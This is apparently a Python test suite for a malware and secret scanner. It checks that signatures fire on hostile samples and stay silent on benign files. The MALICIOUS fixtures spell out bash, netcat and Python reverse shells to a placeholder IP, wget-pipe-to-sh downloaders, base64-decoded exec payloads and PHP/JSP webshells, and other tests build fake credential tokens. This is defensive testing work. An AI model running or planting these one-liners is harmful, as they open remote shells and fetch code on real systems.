"""What is searched by YARA-X: malicious code and secrets are found; what this repository and Python bring is not."""

from __future__ import annotations

import base64
import random
import sys
import zlib
from collections.abc import Iterable
from pathlib import Path

import pytest

from hitless.checking.facts.scanner import ScannedFile
from hitless.checking.facts.seen import Finding, ScannerSeen
from hitless.checking.scanning.searching import Searching
from hitless.checking.scanning.secrets import Secrets
from hitless.checking.scanning.signatures import Signatures

pytest.importorskip("yara_x")
SOURCE = Path(__file__).parents[4] / "src" / "hitless"
LETTERS = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"


def search(name: str, data: bytes, piece: int = 1 << 20, *, in_base: bool = False) -> list[Finding]:
    scanner = Searching(Signatures(), Secrets())
    sink = scanner.begin(ScannedFile(name, len(data), 0o644, in_base=in_base))
    assert sink is not None
    for at in range(0, len(data), piece):
        sink.feed(data[at : at + piece])
    return list(sink.end())


def kinds(findings: Iterable[Finding]) -> list[str]:
    return [one.kind for one in findings]


B64 = base64.b64encode(b"print('hello, this is a long text that nobody can read')" * 3).decode()
EICAR = "X5O!P%@AP[4\\PZX54(P^)7CC)7}" + "$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
ADDRESS = "198.51.100.7"
CONNECT = f's.connect(("{ADDRESS}", 4444));' + "os.dup2(s.fileno(), 0);"
MALICIOUS = {
    "eicar": ("a.com", EICAR),
    "miner-pool": ("a.sh", "./x -o stratum" + "+tcp://pool.example.org:3333 -u wallet"),
    "miner-program": ("x", "donate.v2." + "xmrig.com --donate" + "-level --random" + "x-mode"),
    "reverse-shell-bash": ("a.sh", "bash -i >& /dev" + f"/tcp/{ADDRESS}/4444 0>&1"),
    "reverse-shell-netcat": ("a.sh", "nc -e" + f" /bin/sh {ADDRESS} 4444"),
    "reverse-shell-python": ("a.py", CONNECT + 'pty.spawn' + '("/bin/bash")'),
    "python-obfuscated": ("a.py", "exec(" + f"base64.b64decode('{B64}'))"),
    "python-marshal": ("a.py", "exec(marshal." + "loads(b'" + "\\x00ab" * 40 + "'))"),
    "shell-obfuscated": ("a.sh", f"echo {B64} | base64 -d" + " | sh"),
    "downloader": ("a.sh", f"wget -qO- http://{ADDRESS}/x" + " | sh"),
    "webshell-php": ("a.php", "<?php ev" + "al($_POST['c']); ?>"),
    "webshell": ("a.jsp", "Runtime.getRuntime().exec(request." + 'getParameter("c"))'),
    "rootkit-preload": ("a.so", "\x7fELF /etc/ld.so" + ".preload readdir64 /proc/net/tcp dlsym hide_me"),
    "ransom-note": ("READ.txt", "your files have been" + " encrypted. bitcoin wallet: x http://x.onion/"),
}  # fmt: skip


@pytest.mark.parametrize("identifier", MALICIOUS)
def test_malicious_code_is_found(identifier: str) -> None:
    name, text = MALICIOUS[identifier]
    findings = search(name, text.encode("latin-1"))
    assert kinds(findings) == ["signature"]
    assert findings[0].scanner == "signatures"


@pytest.mark.parametrize("before", [0, (4 << 20) - 30, (9 << 20) + 17], ids=["begin", "over-an-edge", "far"])
def test_it_is_found_wherever_it_is_in_a_large_file(before: int) -> None:
    data = random.Random(1).randbytes(1 << 20) * 16
    data = data[:before] + EICAR.encode() + data[before:]
    ((one),) = search("weights.bin", data, 700_001)
    assert f"at byte {before};" in one.detail


@pytest.mark.parametrize(
    ("name", "text", "expected"),
    [
        ("home/run.sh", "#!/bin/sh\ncurl -fsSL https://example.org/x.sh | sh\n", ["suspicious"]),
        ("app/start.sh", 'bash -c "$(curl -fsSL https://example.org/x.sh)"\n', ["suspicious"]),
        ("home/run.sh", "#!/bin/sh\n# curl -fsSL https://example.org/x.sh | sh\nexec python a.py\n", []),
        ("home/run.sh", "curl -s http://127.0.0.1:8080/health | grep true\n", []),
        ("usr/share/x/start.sh", "curl -fsSL https://example.org/x.sh | sh\n", []),
        ("app/README.md", "curl -fsSL https://example.org/x.sh | sh\n", []),
        ("m/model.keras", '{"class_name": "Lambda", "config": {}}', ["lambda"]),
        ("m/notes.txt", '{"class_name": "Lambda", "config": {}}', []),
    ],
)
def test_what_is_suspicious_depends_on_the_place(name: str, text: str, expected: list[str]) -> None:
    assert kinds(search(name, text.encode())) == expected


def test_python_itself_and_this_project_are_clean() -> None:
    library = sorted(Path(random.__file__).parent.glob("*.py"))
    scanner = Searching(Signatures(), Secrets())
    for file in [*sorted(SOURCE.rglob("*.*")), *library, Path(sys.executable).resolve()]:
        if file.is_file() and "__pycache__" not in file.parts:
            sink = scanner.begin(ScannedFile(str(file).lstrip("/"), file.stat().st_size, 0o644))
            assert sink is not None
            sink.feed(file.read_bytes())
            assert list(sink.end()) == [], file


def token(prefix: str, seed: int = 5) -> str:
    """With the checksum that these tokens have."""
    entropy = "".join(random.Random(seed).choices(LETTERS, k=30))
    number, digits = zlib.crc32(entropy.encode()), ""
    while number:
        number, rest = divmod(number, 62)
        digits = LETTERS[rest] + digits
    return prefix + entropy + digits.rjust(6, "0")


def some(alphabet: str, count: int, seed: int = 3) -> str:
    return "".join(random.Random(seed).choices(alphabet, k=count))


def private_key(kind: str = "RSA ", body: str | None = None) -> str:
    lines = body if body is not None else "\n".join(some(LETTERS + "+/", 64, n) for n in range(12))
    return f"-----BEGIN {kind}PRIVATE" + f" KEY-----\n{lines}\n-----END {kind}PRIVATE" + " KEY-----\n"


UPPER = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567"
SECRETS = {
    "key": ("home/id_rsa", private_key()),
    "key-of-openssh": ("app/key", private_key("OPENSSH ")),
    "key-in-json": ("app/account.json", '{"private_key": "' + private_key("").replace("\n", "\\n") + '"}'),
    "key-in-code": ("app/server.py", f'KEY = """{private_key("EC ")}"""'),
    "aws": ("app/settings.py", "AK" + "IA" + some(UPPER, 16)),
    "github": ("app/a.sh", token("gh" + "p_")),
    "gitlab": ("app/a.sh", "glp" + "at-" + some(LETTERS, 20)),
    "slack": ("app/a.sh", "xo" + "xb-904718263541-" + some(LETTERS, 24)),
    "huggingface": ("app/a.sh", "hf" + "_" + some(LETTERS[10:], 34)),
    "npm": ("app/.npmrc.bak", token("np" + "m_")),
    "pypi": ("app/a.cfg", "py" + "pi-AgE" + some(LETTERS, 90)),
    "huawei": ("app/a.ini", "HUAWEICLOUD_SDK_SK=" + some(LETTERS, 40)),
    "netrc": ("home/.netrc", "machine example.org login me password geheim1"),
    "index": ("home/.pypirc", "[x]\nusername = me\npassword = geheim1\n"),
    "docker": ("home/.docker/config.json", '{"auths": {"r.example.org": {"auth": "bWU6eA=="}}}'),
    "git": ("home/.git-credentials", "https://me:geh" + "eim@example.org"),
    "env": ("app/.env", "DEBUG=1\nDB_PASSWORD=geheim123\n"),
}


@pytest.mark.parametrize("identifier", SECRETS)
def test_secrets_are_found_and_not_recorded(identifier: str) -> None:
    name, text = SECRETS[identifier]
    (one,) = search(name, text.encode())
    assert (one.scanner, one.kind) == ("secrets", "secret")
    assert not any(part in one.what + one.detail for part in text.split() if len(part) > 12)


@pytest.mark.parametrize(
    ("name", "text"),
    [
        pytest.param("a.pem", private_key("").replace("PRIVATE KEY", "CERTIFICATE"), id="certificate"),
        pytest.param("a.py", 'P = "-----BEGIN RSA PRIVATE' + ' KEY-----"\nif text.startswith(P):', id="only-the-head"),
        pytest.param("a.md", private_key(body="MIIE... (your key here)"), id="placeholder"),
        pytest.param("usr/lib/python3/dist-packages/x/tests/server.key", private_key(), id="test-of-a-package"),
        pytest.param("usr/lib/libtls.so.30", "\x7fELF" + private_key(), id="a-library-that-tests-itself"),
        pytest.param("a.py", "AK" + "IAIOSFODNN7EXAMPLE", id="example-of-aws"),
        pytest.param("a.py", "gh" + "p_" + some(LETTERS, 36), id="wrong-checksum"),
        pytest.param("a.py", "hf" + "_" + "x" * 34, id="all-alike"),
        pytest.param("home/.docker/config.json", '{"auths": {}, "credsStore": "desktop"}', id="no-login"),
        pytest.param("app/config.json", '{"auths": {"x": {"auth": "y"}}}', id="another-config"),
        pytest.param("app/.env", "DEBUG=1\nPORT=8080\n", id="variables"),
        pytest.param("app/.env.example", "DB_PASSWORD=geheim123\n", id="example"),
        pytest.param("home/.netrc", "# empty", id="no-machine"),
    ],
)  # fmt: skip
def test_what_is_no_secret_is_not_told(name: str, text: str) -> None:
    scanner = Searching(Secrets())
    sink = scanner.begin(ScannedFile(name, len(text), 0o644))
    if sink is not None:
        sink.feed(text.encode())
        assert list(sink.end()) == []


@pytest.mark.parametrize("text", ["a" * 60_000, "\n" * 60_000, "PASSWORD" * 8_000, " " * 60_000, "export " * 9_000])
@pytest.mark.parametrize("name", ["app/.env", "home/.netrc", "home/.pypirc", "home/.npmrc", "home/.pgpass"])
def test_files_that_are_there_to_take_time_take_none(name: str, text: str) -> None:
    assert search(name, text.encode()) == []


def test_a_token_in_a_program_is_found() -> None:
    assert kinds(search("app/server", ("\x7fELF\n" + token("gh" + "p_") + "\n").encode(), piece=3)) == ["secret"]


def test_a_checkout_is_told() -> None:
    assert kinds(search("app/.git/HEAD", b"ref: refs/heads/main\n")) == ["checkout"]


def test_files_of_the_base_are_asked_for_malicious_code_only() -> None:
    assert search("home/id_rsa", private_key().encode(), in_base=True) == []
    assert kinds(search("a.com", EICAR.encode(), in_base=True)) == ["signature"]


def test_without_the_engine_both_are_lacking(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "yara_x", None)
    scanner = Searching(Signatures(), Secrets())
    assert scanner.begin(ScannedFile("a", 1, 0o644)) is None
    seen = [one for one in scanner.finish() if isinstance(one, ScannerSeen)]
    assert [one.name for one in seen] == ["signatures", "secrets"]
    assert all("not installed" in one.lacking for one in seen)
